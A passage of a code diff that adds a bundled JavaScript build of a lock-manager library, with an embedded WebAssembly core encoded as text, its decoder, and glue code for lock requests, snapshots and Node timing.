be true or false, not ${b(r)}.`);let s={scope:t,keepAlive:r,directory:n};return void 0===e&&void 0!==r&&void 0===t?{name:"",debug:o,options:s}:((void 0===e||""===e)&&K("createLockManager() needs a name that is not empty: { name: 'my-app' }. "+(""===e?"It is empty.":"There is none.")),"string"!=typeof e&&"number"!=typeof e&&K(`The option name must be a string, not ${b(e)}.`),{name:S(e),debug:o,options:s})})(e,!0),a=Hr(Gr),s=((e,t)=>{let r,n,o=new Map,a=new Set,s=0,l=()=>{},i=()=>{n&&!o.size&&!a.size&&!s&&l()},c=e=>{s++;let t=()=>{s--,i()};return e.then(t,t),e};return{openLog(){if(n)throw I(t,"InvalidStateError","This lock manager is closed.");return r=r||(e=>({...e,request(t,r){let n=e.request(t,(e,t,s)=>{o.delete(n),"granted"===e?a.add(n):a.delete(n),r(e,t,s),i()});return o.set(n,()=>r("closed",0)),n},drop(t){o.delete(t),a.delete(t),e.drop(t),i()},query:()=>c(e.query()),inspect:()=>c(e.inspect()),forceRelease:t=>c(e.forceRelease(t))}))(e()),r},close(){n=n||new Promise(e=>{l=()=>{l=()=>{},r&&r.leave(),e()},Promise.resolve().then(i)});let{drop:e}=r||{drop(){}};for(let[t,r]of[...o])e(t),r();return n}}})(Q(_r(r,o,a.watch),{label:r,now:Gr,observation:a,hasLeader:!1,choosePrinter:()=>Ur(n)}),t),l={environment:t,openLog:s.openLog,observation:a},i=re(H(Jr,s.openLog),{inspect:()=>an(l),close:s.close});return nn.set(i,l),i},ln=()=>an({openLog:Qr,observation:Yr});
+"use strict";
+var __create = Object.create;
+var __defProp = Object.defineProperty;
+var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
+var __getOwnPropNames = Object.getOwnPropertyNames;
+var __getProtoOf = Object.getPrototypeOf;
+var __hasOwnProp = Object.prototype.hasOwnProperty;
+var __export = (target, all) => {
+  for (var name in all)
+    __defProp(target, name, { get: all[name], enumerable: true });
+};
+var __copyProps = (to, from, except, desc) => {
+  if (from && typeof from === "object" || typeof from === "function") {
+    for (let key of __getOwnPropNames(from))
+      if (!__hasOwnProp.call(to, key) && key !== except)
+        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
+  }
+  return to;
+};
+var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
+  // If the importer is in node compatibility mode or this is not an ESM
+  // file that has been converted to a CommonJS file using a Babel-
+  // compatible transform (i.e. "__esModule" has not been set), then set
+  // "default" to the CommonJS "module.exports" for node compatibility.
+  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
+  mod
+));
+var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
+
+// glue/entries/index.js
+var index_exports = {};
+__export(index_exports, {
+  Lock: () => Lock,
+  LockManager: () => LockManager,
+  createLockManager: () => createLockManager2,
+  inspect: () => inspect,
+  install: () => install2,
+  internal: () => internal,
+  locks: () => locks
+});
+module.exports = __toCommonJS(index_exports);
+
+// glue/entries/node.js
+var import_node_crypto3 = require("node:crypto");
+var import_node_fs10 = require("node:fs");
+var import_node_process5 = __toESM(require("node:process"));
+
+// build/out/embedded.js
+var text = "t@}@k@0)ttt)@=)T@{)@I)@I@{(@I@I)@I@{(@I@It@{.@I@I@I)@I@{)@It@{.@I@I@It@{t)@I@{(@I@?)@I@{)@?)@I@{(@?@I)@I@{t)@?@{.@I@I@?t@{)@I)@?@{d@I@I@I@?@?t@{n@I@I@I@I)@I@{n@I@I@?@?)@I@{n@I@I@?@?t@{d@I@I@I@I@It@{n@I@I@I@?)@I@{.@I@I@?)@I@{{@I@I@?@I@I@?@I)@I@{tt@{s@I@I@?@?@?@?@?@I@I@I@I@I)@I.@p@dn{t}t(n(n)d}ttd.)(((n)n.))t).t)dc.dg))))ty.{ptt.(t)|,{).(tM)(rPDr((0.(((nnttgsd>p>>s})t-ptpp2gdp)))@3@3(p{)@I)=@3er{~n)Pp@0@s@0@2@4@e(td@4@s@k@s@mt@n{@k@>@4@}@m@>@|t1d@}@T@T@D@et@.>@s@<@s@-@mN@2@+@-@mt@(p@s@<@s@-@m@kt@)}@k@-@}@T@k@|@2@mtw{@4@s@k@m@2@4@st@tn@c@2@4@PtRp@4@s@M@2@,@-t5r@-@s@U@mY@s@h@+@s@k@mt9r@4@s@h@+@s@k@mF@}@0@st_d@4@}@,@k@st%n@D@}@k@mt^n@m@,@0@stYs@-@s@U@mf@s@}@r@D@,@-@stQs@4@s@h@+@s@k@mN@2@+@-@mtCn@|@}@k@|tq>~]a@d,tetet&(tetet&(nrK))@Je)~ri(@Fet@k=@R~=~ ~A@e@Dite(Le@Z@F@ket=|@<@k=~:@6@9@9@U@Dit=c@<et@kr>teto(net!rIt=tet@Net@}etftttttttt@c:etf~x~x~x~x~x~xAN@s:@4mrctetott=)@m=n@MrHtete),$=(@m=@3e@Mi)o(t&(te)et&(trl))@Ieto(ti)eto(n&(neto(ne)&(tet,tr#))@Ieto(tl(e)et&(ne)e(&(teto(te)&(nete)&(tr@L.)r@Iet=@W)@Ml>.ae>,(:naeto(@6)i),pe)=w@Pi(=h@Ml}e(1t]na(ae},(:cte(=tEt]e(=u@Mln=)lp=)l).ae)=)@hnaeno(nl.=tl{.ae.enOnae.epen,#igepen,#ldegl).ae)e.!e)ed!@4:nae) .se. .s@>nae)o(nlre),pe.e),{erl)de.o(nl.rs)rre{=)eneg!ml{edl.s)rre{=)@hl)ep=)@mlps)rr.aen,(c)e(o(oi),pete)=+@P,bstrtrre(=,@Mld.a(ae(o(ei)ed!cte(1t]cte(e)o(}i.,K:cte(e)o(n&(ee(e(o(v=)@M&(ve)=)Et,e.e.o(v=0@D@M=~Vt@Me)Oc)ete.,bs)rred,(:c)e},(:c)et=~Ht@Me(,De(e(o(},n=a@P,ds)rrr te)o(}eto(}=@R~=~ ~A@e@D@kit=|@<et@k=~:@6@9@9@U@Dit=c@<et@krC))@Ieto(tl.(aet1t}nae.eto(n@Me)e(,W:c)et=)Etgde.:c)e.eto(n@Me)e(,Tkrreteto(ne(@M&(nrhtetftttttt~V@I@gn@Iet,.d=)rr@v)).@Iet,$it=Hxna(aet=(@m=@3e@Mi(o(ti)nae(e)o(t&(ts)r(@I=)et@mitAti)=,@m=@Alo(t=@Ol@Mi(@Pi.Snaete.@P=,@<=)@Mi.e)=.@<@M,o:na=te.,o:c(krr=@Al=@Alo(tet@M&(te(r|rre)r&)(@Iet=n,Hi)n@Ie)otti(eto(n=)@<xn@Ie)=tete(=)@m,Hmd=trd=trr@F)).@Iete(e)o(@{e) .aftttttttt,e=tl(.ae)o(@De(Snae)e(=0@D@Mino(@?i.o(een=~Vt@Mid!nae.eno(@m&(eren1t@3)nae.e.o(v=)@P&(vred,pete.,Me(=)@Ml(s)rre)=+@M,pete),]et=~$t@Me),De)e)o(@D=0@D=~Vt@M,drmtete(,Hitnae)ete(,Tkret=tOr@k((@I(@Je)=n@Ml(e),ne)@Ml.=)l)et=)@<=~I~O~]~!n@k@%ln.ae(e.Onae(ztte)@%en@J@?id@F=~x~x~x~x{@hedLU@Z@F@Mit=~x~x~x~x{@Petet=~*~x~x~x{Sml)e(=(@Ml(s)rre)rTte),<:naet=@W)@Me)=w@M,{rr4tete)o(f&(tete)o(a=)@m&(nrL)(@Ieto(teto(ne)o(n@h=(@m@Ml(.ae(i.o(ti(e)Octre.e)o(t&(teteto(}=)@P&(}ryteto(teto(n,:r0teto(@N)e)=(@m@M=n@Po(trktet=t&(setLtW(netet=s@M&(trz))@Ietl..ae(nae.e)1ttEtte.=)@Ml.e)=)@Ml)e(=)@Pl(s)rretr-tet=b@Me),3it=,@P=tetmrktet:na=@Wlo(t,/=@Wle)&(tretri).@Ietl).ae(i.=)@Ml(e)o(ni)etOctre.r@!.)>@I?t=b@Pi.utet=o&(ne)=~Lt@Ml(e)=~Vt@Mlg.ae(o(ti(egOnaete(=e@M=s,>ete(=,@Po(tinen,n,>e(=n@Ml(s)rr=tl(.ae)e{,Ii{na=tld.aede{o(@Dqc(e{ed=0@D@Mino(@?l>en=~Vt@Mi}o(sin=h@Mlre}en=,@Merer,(mo(n!nae>e(&([ete>o(}inen,n,>e(=)@Ml(red=)@Mldstrtrre(ln.ae)ep,Iipnaetep=a@P=b,>=tl(.ae(epo(@Dqc(etepe(=0@D@Mo(@?=[@M=n,>e(=)@Ml(strtrreto(nl}e.=~k@8~m@;.&(}e.eg,k&(se.e) .,;.,e.e) .h;.he)o(ol(e.en&(ue.e(&(ee.e)=~!t@M,k&(oe.e)=@ )@M,k&(wet=t&(nete.=}@M=o,>e.=b@Mute}r:)(@I?t=,@Pi.ute.=t&(}e.LtW.te):e(e.et,minj@4:nae.e)&(te.et,mkre.=,@Mutenrstet=w@M,(=)@kr$)(@Ie)eto(ni.xnaeto(tl(ete.e)@P&(nete)e(@M&(tre(r~0))p@I(aeti.o(}ineto(n=)@Mitqn@Iet=(@mdenet=n@<qc)et=(@<rlte.o(nlpe.o(tl{et=(@min,si}:cte}en,Jlne.et=)@P&(ne.en&(t.aedepxnae{ed=(@m@Mo(tlt.aetnaeto(tlne.et,[enlts)rred=)@Mlds)rre{ep,:re.e.o(}=)@M&(}e)e(&(ne.e),[r8))@Ieteto(@q)id=)@M&(@q)eto(@S)ed=h@D@Miten;.,ete.;.}ete(&(nete)&(tr/))@Iete(,3lt(a.aetnaeto(}l(e),ni.e(,n!n@Ie)e(e.,Wd=)r:c(et,;lts)rr=tltretr<teto(@N)e)=(@m@M=n@Pe(&(te(e)&(br>te)~pet@O,.r=((@?(@Iet .Ci(e) .Ci.@gnae(e.@>|reto(@{ine)o(@{idOn@Ienedjdet .ae) .a@>rrB))@Ietl(.ae)nae(=tEtte(=)@Ml(e)=)@Pl)s)rretr[))@Ie)=,@Met=~!t@Mi(e)mo(ni)e(!naeto(@Z)l)r=te)=,@Pe)et=@ )@M!mrkteto(teto(ne)@h=(@m@Mo(te),6rgtetat=@IOr@Xn({@Id@??t=b@Pinut=@ll}e)en=b,|na(aeteno(e,hi>idna(aen thlren t,lsen t}lyen ttic,.:ecftttttt~VA@s@4cteced .[@rctetedec,Actenotui{=)Sct=tenotoe{mcter,r:ctes,r:cteset .,i|@scte.:na=)lped=o@M,(c)ecedo(o .[@rlps)reyet .h@r:ctey,.:ctesftttttt~V@I@}n@I=)lperftttttt~V@I@}c)ere|@O,r=)@kderes@s:c)esere|@O@srlprrep:cteno(wld=tlp?t=,@Pi{ut.a(aedep!cte)e{=s@M=n,|:cte{o(sige(o(nqcte(o(teg=(@m@Mo(tig,<cteteg,Mep=)@Mlps)rre{=,@Muted=tOedepx@h:ctete>en .teno(ueno(oen .hed,Ni):na=@Il}s)re.naeten .}ir;.hete)eren .,,zl(et,}e(:c)dete)en .,,aet,}r=t=@le)1t]e.!ml}rren=b@Mute}rut.ae):ete(!@4:nae)=)@Pl)eto(nlts)rretr2te),rn@Iet .,e)@O,rd=trrZ)(@I=@Wlo(t=t=t,+it,1i)=tFn@I=@Wlo(t=@zlo(tet,+de)rr:)(@I=@zlo(tl)et=@Zlo(ti(Snae)nae)e(,dr=@zlet,si)&(t=@Zlet=te)m&(tre)=@Ie)mryt=eet=)@P=|@4@y@Pr@op(c@I(@??t=,@Pisutfttttttttes=s@M,*l.eso(slp(ae.:na(a?t=a@Midutede)&(]edet&([=@ll.ed=[@Med=,@M=o,|na(aed .hi,,.:cted .eiM,.:cteMedo(v,?:ctedo(winedo(]=(@<Sctepe,ftttttttt@O;.,en=(@m=n@Mic,sl.eden&(sede.&(}e.:na=@Il.s)re.ec,Jlyed=[@Ml}ed=}@Mlg=tl.edot0l{.aedotolr=te{e.mnae{=)@Pl{?t=,@Pinut=@ll.e}en=s,|na(aereno(}i|jcte|epo(oxctepe},ce|en .t,Vl.rren=,@Muts)rreper&(oe.:na=tl.=tln(@I(a.ae.ego(nqc)=@le},ci{:c(kepe{,&l{e.=(@mirego(t@Me{&(te.=)@Ml.erego(t@Mo(tctr=@Ilnrenrl.redotbl{.a=te{e.mnae{=)@Pl{epe}eg=),Bl.s)rr=@llned tei,ep .h@>:na(aepe,ftttttttt@O;.hedotvl{e.ln.ae{:en@4c)e{=)@Pl{epe}eg=t,Blnstrtrrenl..aeye>=(@m@Mo(tinnaepen,Me>=)@Ml>s)rrep,}eyec,d=@ll>(a(ae.=)@My((t)r=tln?t=,@Pi.utep=t=t,+e)!nae.=)6)}e.=t&(ne.et&(te.ep,mke.1tg:lnre.=,@Mut=t=@lenml>re>l.rred=a@Pute.ct=tl.s(rrep,/=tlpre(ep&(tes=,@Mute.r@P).@Ie)o(@Dinl.(a(a.ae.=)@Pi.:c)e)e)o(v=)@Mi(=te(enjmi(&(ve)e(=0@D@Mi(1t@3):c(e(o(@?i(1t]:ctre(=u@Me)=+@M,{s)rete),Lrr4teto(@rn@Ieto(@|it=@Ietmd=)rra)(@Ieto(vi.:na=)|reto(eo(ti(et=,@M!naeto(hl(re),Gite(o(},G!ete.S@hr@K))d@I=)ld.ae)o(@De{Snae)e{=0@D@Mino(@?lpen1t@3):naepe),Kl}en=)Et@3)epepo(v=)@M&(vede}@hldren=~Vt@Min,pep=h@Men,{e{=)@Ml{s)rrete),]e)=)Et]ete)e(e.,ved=)@hr@*)).@Ie)e.;.Ce)e(;./e)o(ulne)e)o([e(,)e.,)&(hen=e=oe)1t]m@Me)=}@M,{etet=~!t=@ )e)1t]m@Mino(tipe)=,@Mid,geden,g@Mepen,g@Peto(w@M&(wened,{e.ftttttt~V@I@gnaeteto(@O)=)@Min&(@O)etene),Frr2teto(ve)fttttttbN@O~r@F@Mr@H).@Iet=~Ht@Mi(e)eto(}e),,i.,lit:nae),n=a@P,sitnaet=,@Min,tet=h@M,tet=u@M,tet=w@M,tet=tEt]et=t&(veten&(ee(etet=8@Me)e.,Ed=t|rretra)(@I(a.ae(:c)et1tti.e)1ttin!nae)=)@Ml)et=)@Mlte(=)@Pl(s)rre.en@P|r=tr3te)eto(teto(ne)o(n@h=(@m@Mito(t&(tete)&(tryteto(teto(n,6rute)e(e.e.,n,T&(}e)=te.,,&(sete)en,Urit.a(aet:cteto(ne)!cteto(tlts)rretr~G))d@Ie)=}@Mi(,(:na(ae(,pete)=,@Mi(o(ti.e(o(nin,ge.e(,ge(en,g@M@Peto(w@M&(we(,petl(e)o(bit:cte)=t&(be(e(o(@O)=)@Pi.&(@O)e(o(@N)e.=(@m@Mo(tine)!ct.a(aet=)@mi)e.Scte)e.jnae(e)=)@4id,-lpede)epe(e),-,uml)re(e),-iden,u:cte(eted,ie)lts)rre(eten,FrrrVteteto(we)o(b@P&(we)e(;.[e)e)o(se)o(a~p,)e(,)i)&(beteto(we)@M&(wr~l))n@I=@Jlne)na(ae)ott:e.ftttttt~VA@>@4cte.,.:ct=@?lnet=a@Pipe)eto(}ide),,i{,lcte(:na=@e|re),n=~2t@M,sin:na=@I|ren=t&(bene(&(aenede(~p,)ed~p,)&(ven=e@M,ten=o@M,tet=~Vt@Men=h@M,{et=b@Men=,@Me(,Uepenen=~Pt@Me)e{,Eete(&(oetene.,8=tlnrrenratet=~$t@Me)e(,X,3lt(a.aetnae(et .a@}naeto(ue)!c.ret,;lts)rr=tltretr@.)n@I.ae)o(@De.Snae)e.=0@D@Mino(@?id=,@Mipen=~Vt@Min,{epedo(e!naeden&(ere.=)@Ml.s)rrete)ftttttttte(,vrI))@Ie)=h@Ml(.ae(,(:naete)o(+o(}=.,ys)rrr_)(@?et .,e) .R@Ol(etet .hftttttt~VA@Oi.;.hete)e.e(ftttttt~V@Ie(,rm,zket=)e)o(@{e) .ae) ./,er~V().@Iet,Snaep=0@D=~Vt@M,si{nae{=}@M,te{=,@M,te{=+@M,te{e)&(ue)o(al}e{en&(@|e{e.&(@re{e(;.ae{e}&(@{e{edftttttttt@O;.Retet .eidftttttt~VA@O;.ee{ep&(@De{=tEt]e{LtW.be{ed;.oe{=~Vt@Mlget=@W)@Mln=tl..ae.epOnaeno(nlnege.=0@D@Mi}=tEt,e}en=w@P&(se}e{&(}e},te.=)@Ml.s)rr=tl.e{o(@{e{ .a,)e{ .R,)e{o(@r~p,)e{o(@|~p,)lne{o(@Dl}e{lp.ae.e}Onaenepe.=0@D@Mo(@?o(s~p,)lne.=)@Ml.s)rrepen&([et=~$t@Mepe)e(,X,Ud=tlprd=tlprepr5)(@I=@Jlne(na(a(a.ae(nae),ci.:c.ete.,&i.:c(e.,<c.e(=)@Pl(ete.,Ms)rr=@J=te)o(nmlns)r=@I|rrenrDte)naete)=(@m=n@M,drr<t.ae),(:naete)o(n=}@P=n,ys)rrrqtete)=e@M,!ete)=o@M,!eteto(we)o(b@P&(we)=h@M,pet=b@Me)=,@M,Det=a@Pe),De)e)o(},n=~2t@M,dr5))@Ietnaet=~Vt@Ml).ae),(:naeteto(@m=h@P,Os)rret,}et=b@M,0et=a@P,0et=~Ht@M,0et=~$t@M,0et,jet=@5),drrPteto(@N)eto(@A),7,dr>tet=v@D=b@Mr@u)n@Ieto(@|i)eto(@A)i.je)=)@Me.=n@<q@h:nae)=)@m=}@Min,7,si(:nae)e.j|reto(@N)i)nae(e)eto(@O)=(@m,Tket,jrete(&(@N)eten&(@A)ete(en=(@m@M&(@S)r=)r~.)))@I(@Ie)=t&(tet,.n@I=@5),si(nae(=@5),Ji(=@ lo(t&(}e(=~7eB(tW(td=tl(r=@Ie(:c)ke(etftttttttt@O;.he(=b@M,2e(=a@P,2e(=~Ht@M,2e(=~$t@M,2e(=~Vt@M,te(=~!t@M,te(=@ )@M,te(=@W)@M,te(,Sn@Ie)e(&(t=tde(=@5),d=@Ird=@Jrrrlteto(@O)n@?eto(@N)o(t .Cdftttttt~V@Irr6)(@I.a(ae)=(jcte(ete)=)@<i.,-in,u:ctete)en,ie.l)s)rrete)e(,irI))@I=@Wlo(tito(wet .,,)et .h,)eto(o~p,)~prrt=@Wlo(to(@|r>t=@Wlo(t,xrrt=@Wlo(t .,ret=@Wlo(tet,hitn@?et .[dftttttt~V~crrA)(@I=@Wlo(tl)=@Jl(et,.na(ae) .het@c:naete)o(@|,?:c)e)et;.hr=tl(rre(r,tete)=0@D@Mo(@?o(}rst=@Wlo(tet,Irct=t=@6lo(t,4krC)(@I?t=,@Pi)ut,wit=tFna=@zlo(tete)=s@M,Zit:na=@6l=@Wlo(t&(t=@Wle)o(s&(t=tltrre)=,@Mutetr$))@I?t=,@Pi)ut=@zlo(tete)=s@M,Ze)o(s,4lte)=,@Mutetrst=@Wlo(to(@S)rst=@Wlo(to(@q)r~xp)n@I?t=~Ht@Pisutes=@zlo(t&(feser&(aese>&(]eseg&([ese}&(vese{&(besep;.oesed;.eesen;.hese.;.,ese(;.}ese)&(neset&(t=@Wlo(tir=t&(@q)=@Jlc(a(a(a(a(a(aet=)@Pyp...()tdrep,.:cn=tlcer .,ep@>:cnerep;.,snrere),hit:c(eret,O=tlcs.res=~2t@Mites,Pet,clte>=)Oc(eso(*c(eretero(o=)@Me(,Vicc(er=pero(oe(ftttttttt,e=tlcs(rere),hiy:cte(,.:c)=@?lcey .[ipe(@cc)=@ilcepftttttt~VA@Oe(@>c)(a(a(a(a(aet=)@Py()t(r=@Jl)e.,.:c.ereye.,Aitn@Ieret=n,y=td=)rl)s.r=@Jl)=tlteso(bic=)xna(aeso([i|=(Sec=te|=(!m@4ct=teso(vecmcteres .h, :cteres .e, ltrret:c(es=~2t@Mites,Perete>,fi)c)=.l)er .hero(@|=)@M,?:c)ereye(e{e}ede>,Ni{:na=@Il)s(reg=(@h:naere{er .,en@O,aer,}=tl)eg=)@h:c(e{1t]c(ere{=(,ys(r=tlt.aete{o(@Djnaere{et=0@D@Mi)o(@?,=e)o(@?=)Et]et=)@Mlts)rrere{,L=tl)s)res=~2t@Mites,Perete>,fl)er,}e)cter=~Ht@Ml{es=~2t@Mes,P=tl)=tlt.aete>!c)e{es=~2t@M,ci}ero(}e},,,li}naere},=ret=)@Mltstrtr=@Ilce)=@I!c(rereye(,8=(e)e)=t/mlcs)r=@ulcrer,}.aer,xer .,@snaerero(@N)o(t=d,yer,}s)rres=~Ht@Mutecrb))@I?t=,@Pi(ut=@ le)&(tete(=s@M,*e(o(s,4l)e(=,@Mute)r";
+var alphabet = "t)(.ndp{}g>rscy|,MPD0-2Th4km+<HUeli?uJI3oB# w1$ZbGKzvX&W[;E6]8VAa=LNf:!O/j7S*xFqCQY^%_95R";
+
+// glue/edition/package.js
+var IS_PACKAGE = true;
+
+// glue/core/constants.js
+var OPERATIONS = (
+  /** @type {const} */
+  ["", "request", "drop", "force-release", "join", "gone", "tick"]
+);
+var MODES = (
+  /** @type {const} */
+  ["exclusive", "shared"]
+);
+var EVENTS = (
+  /** @type {const} */
+  ["", "granted", "unavailable", "broken", "removed", "expired", "joined"]
+);
+var STATUSES = {
+  0: "ok",
+  1: "stale",
+  2: "refused",
+  3: "no-fence",
+  "-1": "out-of-memory",
+  "-2": "invalid",
+  "-3": "unknown-client",
+  "-4": "duplicate",
+  "-5": "gap",
+  "-6": "bad-snapshot",
+  "-7": "no-handle"
+};
+var STALE = 1;
+var REFUSED = 2;
+var OUT_OF_MEMORY = -1;
+var IF_AVAILABLE = 1;
+var STEAL = 2;
+
+// glue/core/error.js
+var CoreError = class extends Error {
+  /** @param {number} status */
+  constructor(status) {
+    super(`lock core: ${IS_PACKAGE ? STATUSES[status] : status}`);
+    this.status = status;
+    if (IS_PACKAGE) {
+      this.name = "CoreError";
+      this.code = STATUSES[status];
+    }
+  }
+};
+
+// glue/core/memory.js
+var view;
+var at = 0;
+var seek = (buffer, place) => {
+  if (!view || view.buffer !== buffer) view = new DataView(buffer);
+  at = place;
+};
+var readWord = () => view.getUint32((at += 4) - 4, true);
+var readNumber = () => view.getFloat64((at += 8) - 8, true);
+var readName = () => {
+  let name = "";
+  for (let left = readWord(); left; left--) name += String.fromCharCode(view.getUint16((at += 2) - 2, true));
+  return name;
+};
+var readList = (count, read) => {
+  const all = [];
+  while (count-- > 0) all.push(read());
+  return all;
+};
+var readRequest = (clients, nextName) => ({
+  number: readNumber(),
+  fence: readNumber(),
+  deadline: readNumber(),
+  hold: readNumber(),
+  client: (
+    /** @type {string} */
+    clients.get(readWord())
+  ),
+  mode: MODES[readWord()],
+  limit: readWord(),
+  names: readList(readWord(), nextName)
+});
+var writeName = (name) => {
+  view.setUint32((at += 4) - 4, name.length, true);
+  for (let i = 0; i < name.length; i++) view.setUint16((at += 2) - 2, name.charCodeAt(i), true);
+};
+
+// glue/core/snapshot.js
+var decodeSnapshot = (bytes) => {
+  seek(bytes.buffer, bytes.byteOffset + 4);
+  const memberCount = readWord();
+  const time = readNumber();
+  const fence = readNumber();
+  const lastHandle = readWord();
+  const nameCount = readWord();
+  const heldCount = readWord();
+  const pendingCount = readWord();
+  const clients = /* @__PURE__ */ new Map();
+  const members = readList(memberCount, () => {
+    const last = readNumber();
+    const handle = readWord();
+    const client = readName();
+    clients.set(handle, client);
+    return { client, handle, last };
+  });
+  const names = readList(nameCount, readName);
+  const nextRequest = () => readRequest(clients, () => names[readWord()]);
+  return { members, held: readList(heldCount, nextRequest), pending: readList(pendingCount, nextRequest), time, fence, lastHandle };
+};
+
+// glue/core/core.js
+var TOO_LARGE = 2 ** 31;
+var REQUEST_FIELDS = 64;
+var check = (result) => {
+  if (result < 0) throw new CoreError(result);
+  return result;
+};
+var numberOf = (value) => typeof value === "number" ? value : NaN;
+var namesOf = (list) => Array.isArray(list) && list.every((name) => typeof name === "string") ? list : [];
+var exportsOf = ({ exports: exports2 }) => (
+  /** @type {Exports} */
+  /** @type {unknown} */
+  exports2
+);
+var wrapCore = (exports2, fence = 0, seed = Math.random() * 2 ** 32) => {
+  let handles;
+  let clients;
+  let changes = 0;
+  const forgetMembers = () => {
+    handles = /* @__PURE__ */ new Map();
+    clients = /* @__PURE__ */ new Map();
+  };
+  const addMember = (client, handle) => {
+    handles.set(client, handle);
+    clients.set(handle, client);
+  };
+  const go = (place) => seek(exports2.memory.buffer, place);
+  const scratch = (size) => check(size < TOO_LARGE ? exports2.scratch(size) : OUT_OF_MEMORY);
+  const writeNames = (names) => {
+    let length = 0;
+    for (const name of names) length += name.length + 2;
+    if (length) go(scratch(length * 2));
+    for (const name of names) writeName(name);
+    return length;
+  };
+  const perform = ({
+    type,
+    client,
+    number,
+    request,
+    mode,
+    limit = 0,
+    ifAvailable,
+    steal,
+    wait = Infinity,
+    hold: hold2 = Infinity,
+    names,
+    now: now3
+  }) => {
+    changes++;
+    const all = namesOf(type === "join" ? [client] : names);
+    const length = writeNames(all);
+    const count = typeof limit === "number" && limit >>> 0 === limit ? limit : -1;
+    return exports2.apply(
+      /** @type {readonly unknown[]} */
+      OPERATIONS.indexOf(type),
+      handles.get(client) || 0,
+      numberOf(number),
+      numberOf(request),
+      numberOf(wait),
+      numberOf(hold2),
+      numberOf(now3),
+      count < 0 ? -1 : (
+        /** @type {readonly unknown[]} */
+        MODES.indexOf(mode)
+      ),
+      count,
+      (ifAvailable ? IF_AVAILABLE : 0) | (steal ? STEAL : 0),
+      all.length,
+      length
+    );
+  };
+  const snapshot = () => {
+    const size = check(exports2.snapshot());
+    return new Uint8Array(exports2.memory.buffer, exports2.scratch(0), size).slice();
+  };
+  const reset = (above) => {
+    check(exports2.reset(above, seed));
+    changes++;
+    forgetMembers();
+  };
+  const restore = (bytes) => {
+    const at2 = scratch(bytes.length + 1);
+    new Uint8Array(exports2.memory.buffer, at2).set(bytes);
+    check(exports2.restore(bytes.length));
+    changes++;
+    forgetMembers();
+    for (const { client, handle } of decodeSnapshot(bytes).members) addMember(client, handle);
+  };
+  const apply = (operation) => {
+    const status = check(perform(operation));
+    if (status > STALE) throw new CoreError(status);
+    const count = exports2.eventCount();
+    const events = [];
+    if (count) go(exports2.events());
+    for (let left = count; left; left--) {
+      const type = (
+        /** @type {LockEvent['type']} */
+        EVENTS[readWord()]
+      );
+      const handle = readWord();
+      if (operation.type === "join") addMember(operation.client, handle);
+      events.push({ type, client: (
+        /** @type {string} */
+        clients.get(handle)
+      ), number: readNumber(), fence: readNumber() });
+    }
+    if (operation.type === "gone") {
+      clients.delete(
+        /** @type {number} */
+        handles.get(operation.client)
+      );
+      handles.delete(operation.client);
+    }
+    return events;
+  };
+  const requests = function* () {
+    const names = /* @__PURE__ */ new Map();
+    const began = changes;
+    for (let at2 = 0; at2 = exports2.nextRequest(at2); ) {
+      let place = 0;
+      const nextName = () => {
+        const nameAt = exports2.requestName(at2, place++);
+        if (!names.has(nameAt)) {
+          go(nameAt);
+          names.set(nameAt, readName());
+        }
+        return (
+          /** @type {string} */
+          names.get(nameAt)
+        );
+      };
+      go(at2 + REQUEST_FIELDS);
+      yield readRequest(clients, nextName);
+      if (changes !== began) throw new Error("The state was changed before the iteration over it had ended.");
+    }
+  };
+  reset(fence);
+  return {
+    apply,
+    foresee(operations) {
+      if (exports2.fork() < 0) return [];
+      const [handlesBefore, clientsBefore] = [new Map(handles), new Map(clients)];
+      try {
+        return (
+          /** @type {LockEvent[]} */
+          [].concat(...operations.map(apply))
+        );
+      } catch {
+        return [];
+      } finally {
+        exports2.rejoin();
+        handles = handlesBefore;
+        clients = clientsBefore;
+      }
+    },
+    raise: (above) => void check(exports2.raise(above)),
+    reset,
+    snapshot,
+    restore,
+    // The script-tag build does not use it.
+    requests: (
+      /** @type {Core['requests']} */
+      IS_PACKAGE && requests
+    ),
+    state: () => decodeSnapshot(snapshot()),
+    hash: exports2.hash,
+    time: exports2.time,
+    nextDeadline: exports2.nextDeadline,
+    requestCount: exports2.requestCount,
+    last: (client) => exports2.last(handles.get(client) || 0)
+  };
+};
+
+// glue/core/text.js
+var ESCAPES = "@~";
+var decode = (text2, alphabet2) => new Uint8Array(
+  /** @type {string[]} */
+  text2.match(/[@~]?[^]/g).map(
+    (each) => alphabet2.indexOf(each[1] || each) + (ESCAPES.indexOf(each[0]) + 1) * alphabet2.length
+  )
+);
+
+// glue/core/wasm.js
+var module2;
+var instantiate = () => {
+  module2 = module2 || new WebAssembly.Module(decode(text, alphabet));
+  return exportsOf(new WebAssembly.Instance(module2));
+};
+var createCore = ({ fence } = {}) => wrapCore(instantiate(), fence);
+
+// glue/platform/node.js
+var import_node_crypto2 = require("node:crypto");
+var import_node_fs9 = require("node:fs");
+var import_node_path5 = require("node:path");
+var import_node_process4 = __toESM(require("node:process"), 1);
+var import_node_timers4 = require("node:timers");
+
+// glue/platform/node/bell.js
+var import_node_fs = require("node:fs");
+var import_node_timers = require("node:timers");
+var import_node_worker_threads = require("node:worker_threads");
+
+// glue/platform/node/vigil.js
+var import_node_os = __toESM(require("node:os"), 1);
+var import_node_perf_hooks = require("node:perf_hooks");
+var ASLEEP = 0;
+var AWAKE = 1;
+var RUNG = 2;
+var LONGEST = 0.2;
+var SELDOM = 16;
+var countProcessors = () => import_node_os.default.availableParallelism?.() ?? import_node_os.default.cpus().length;
+var ringAwake = (word) => Atomics.compareExchange(word, 0, AWAKE, RUNG) !== ASLEEP;
+var createVigil = (processors = countProcessors()) => {
+  const word = new Int32Array(new SharedArrayBuffer(4));
+  let pause = 0;
+  let skipped = 0;
+  return {
+    word,
+    /**
+     * Stays awake until there is news, for LONGEST milliseconds at most.
+     * @param {() => boolean} look returns whether there is news
+     */
+    keep(look2) {
+      if (processors < 2 || skipped++ < pause) return;
+      skipped = 0;
+      Atomics.store(word, 0, AWAKE);
+      let found = look2();
+      const end = import_node_perf_hooks.performance.now() + LONGEST;
+      while (!found && Atomics.load(word, 0) === AWAKE && import_node_perf_hooks.performance.now() < end) ;
